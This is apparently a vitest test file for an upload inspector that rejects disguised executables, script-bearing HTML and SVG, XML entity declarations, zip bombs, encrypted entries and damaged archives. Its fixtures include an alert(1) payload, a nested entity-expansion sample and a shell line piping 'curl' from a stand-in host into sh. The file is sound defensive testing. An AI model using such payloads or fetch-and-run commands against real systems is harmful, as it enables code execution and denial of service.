import { mkdtemp, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inspectFile } from "./inspect-file";
import { INSPECTION_MESSAGES } from "./inspection-result";
import {
  buildZip,
  deflatedZeros,
  docxParts,
  type RawZipEntry,
  sampleDocx,
  WORD_DOCUMENT_XML,
  writeSample,
} from "./test-samples";

const UNSAFE_EXECUTABLE = { ok: false, code: "UNSAFE_FILE", message: INSPECTION_MESSAGES.executable };
const UNSAFE_ACTIVE = { ok: false, code: "UNSAFE_FILE", message: INSPECTION_MESSAGES.activeContent };
const UNSAFE_BOMB = { ok: false, code: "UNSAFE_FILE", message: INSPECTION_MESSAGES.compressionBomb };
const UNSAFE_DTD = { ok: false, code: "UNSAFE_FILE", message: INSPECTION_MESSAGES.xmlDeclarations };
const UNSAFE_DAMAGED = {
  ok: false,
  code: "UNSAFE_FILE",
  message: "El archivo parece dañado o manipulado y no se puede procesar de forma segura.",
};

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const MZ = Buffer.concat([
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]),
  Buffer.alloc(120, 0xff),
]);
const MACH_O = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]),
  Buffer.alloc(120),
]);

describe("inspectFile on hostile files", () => {
  let dir: string;
  let count = 0;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), "licita-hostile-"));
  });

  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function inspect(bytes: Buffer, declaredName: string) {
    count += 1;
    return inspectFile(await writeSample(dir, `muestra-${count}`, bytes), declaredName);
  }

  async function docxWithDocument(documentXml: string | Buffer): Promise<Buffer> {
    const zip = await JSZip.loadAsync(await sampleDocx());
    zip.file("word/document.xml", documentXml);
    return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
  }

  it.each([
    ["ELF", ELF],
    ["MZ", MZ],
    ["Mach-O", MACH_O],
  ])("refuses a %s executable named .pdf, .docx or .txt", async (_kind, bytes) => {
    for (const name of ["factura.pdf", "propuesta.docx", "leeme.txt"]) {
      expect(await inspect(bytes, name)).toEqual(UNSAFE_EXECUTABLE);
    }
  });

  it("refuses an executable named as one ('.exe') for its type", async () => {
    expect(await inspect(MZ, "instalador.exe")).toMatchObject({ ok: false, code: "UNSUPPORTED_FILE" });
  });

  it.each([
    ["HTML", "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"],
    ["HTML after a BOM and blank lines", "\ufeff\r\n\r\n  <html><body>Bases</body></html>"],
    ["SVG", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>PDF</text></svg>'],
    ["XML", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'],
    ["a shell script", "#!/bin/sh\ncurl http://example.invalid | sh\n"],
  ])("refuses %s named .pdf or .txt", async (_kind, text) => {
    expect(await inspect(Buffer.from(text), "bases.pdf")).toEqual(UNSAFE_ACTIVE);
    expect(await inspect(Buffer.from(text), "bases.txt")).toEqual(UNSAFE_ACTIVE);
  });

  it("refuses HTML written in UTF-16 named .txt", async () => {
    const html = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from("<html><body>hola</body></html>", "utf16le"),
    ]);
    expect(await inspect(html, "pagina.txt")).toEqual(UNSAFE_ACTIVE);
  });

  it("refuses a docx whose document declares entities, in UTF-8 or UTF-16", async () => {
    const withEntities = WORD_DOCUMENT_XML.replace(
      "<w:document",
      '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document',
    ).replace("Anexo técnico", "&b;");

    expect(await inspect(await docxWithDocument(withEntities), "propuesta.docx")).toEqual(UNSAFE_DTD);
    const utf16 = Buffer.from(
      `\ufeff${withEntities.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`,
      "utf16le",
    );
    expect(await inspect(await docxWithDocument(utf16), "propuesta.docx")).toEqual(UNSAFE_DTD);
  });

  it("accepts the hand-built docx the hostile cases start from", async () => {
    expect(await inspect(buildZip(docxParts(WORD_DOCUMENT_XML)), "anexo.docx")).toMatchObject({
      ok: true,
      fileType: "docx",
    });
  });

  it("refuses a real zip bomb: a 300 MB entry of zeros in a docx of a few hundred KB", async () => {
    const zeros = await deflatedZeros(300);
    const bomb = buildZip([
      ...docxParts(WORD_DOCUMENT_XML),
      { name: "word/media/relleno.bin", deflated: zeros },
    ]);
    expect(bomb.length).toBeLessThan(1_048_576);

    expect(await inspect(bomb, "propuesta.docx")).toEqual(UNSAFE_BOMB);
  });

  it("judges bombs by the declared sizes alone, without inflating anything", async () => {
    // The data is not even valid deflate: only reading the directory can give this answer.
    const garbage = { bytes: Buffer.alloc(2048, 0x55), crc: 0, size: 250 * 1_048_576 };
    const declared = buildZip([
      ...docxParts(WORD_DOCUMENT_XML),
      { name: "word/media/a.bin", deflated: garbage },
    ]);

    expect(await inspect(declared, "propuesta.docx")).toEqual(UNSAFE_BOMB);
  });

  it("refuses an entry that expands more than 100 times, even when the total is small", async () => {
    const zeros = await deflatedZeros(5);
    const dense = buildZip([
      ...docxParts(WORD_DOCUMENT_XML),
      { name: "word/media/imagen.bin", deflated: zeros },
    ]);

    expect(await inspect(dense, "propuesta.docx")).toEqual(UNSAFE_BOMB);
  });

  it("refuses more than 10,000 entries", async () => {
    const many: RawZipEntry[] = Array.from({ length: 10_000 }, (_, index) => ({
      name: `word/media/parte-${index}.bin`,
      data: Buffer.from("x"),
    }));

    expect(await inspect(buildZip([...docxParts(WORD_DOCUMENT_XML), ...many]), "propuesta.docx")).toEqual(
      UNSAFE_BOMB,
    );
  });

  it("refuses an XML part that inflates past the size it declares", async () => {
    const big = `${WORD_DOCUMENT_XML.slice(0, -30)}${"<w:p><w:r><w:t>relleno</w:t></w:r></w:p>".repeat(2000)}</w:body></w:document>`;
    const [types] = docxParts(big);
    const lying = buildZip([
      types as RawZipEntry,
      { name: "word/document.xml", data: Buffer.from(big), declaredSize: 1000 },
    ]);

    expect(await inspect(lying, "propuesta.docx")).toEqual(UNSAFE_BOMB);
  });

  it("refuses encrypted ZIP entries as protected documents", async () => {
    const [types, document] = docxParts(WORD_DOCUMENT_XML) as [RawZipEntry, RawZipEntry];
    const encrypted = buildZip([types, { ...document, flags: 0x1 }]);

    expect(await inspect(encrypted, "propuesta.docx")).toEqual({
      ok: false,
      code: "UNSUPPORTED_FILE",
      message: INSPECTION_MESSAGES.encrypted,
    });
  });

  it("refuses two entries with the same name, a cut ZIP and a broken compound file as damaged", async () => {
    const parts = docxParts(WORD_DOCUMENT_XML);
    const duplicated = buildZip([...parts, { name: "WORD/document.xml", data: Buffer.from("<otro/>") }]);
    const docx = await sampleDocx();
    const cfbHeader = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

    expect(await inspect(duplicated, "propuesta.docx")).toEqual(UNSAFE_DAMAGED);
    expect(await inspect(docx.subarray(0, docx.length - 200), "propuesta.docx")).toEqual(UNSAFE_DAMAGED);
    expect(await inspect(Buffer.concat([cfbHeader, Buffer.alloc(4000, 0x41)]), "acta.doc")).toEqual(
      UNSAFE_DAMAGED,
    );
  });
});
